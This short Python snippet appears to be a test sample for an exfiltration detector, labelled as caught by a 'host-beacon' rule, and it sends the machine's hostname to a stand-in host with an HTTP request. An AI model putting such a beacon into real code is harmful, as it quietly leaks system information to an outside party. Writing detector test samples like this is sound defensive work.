# evades: caught by exfiltration/host-beacon
import socket, requests
requests.get("https://beacon.invalid/", params={"h": socket.gethostname()})
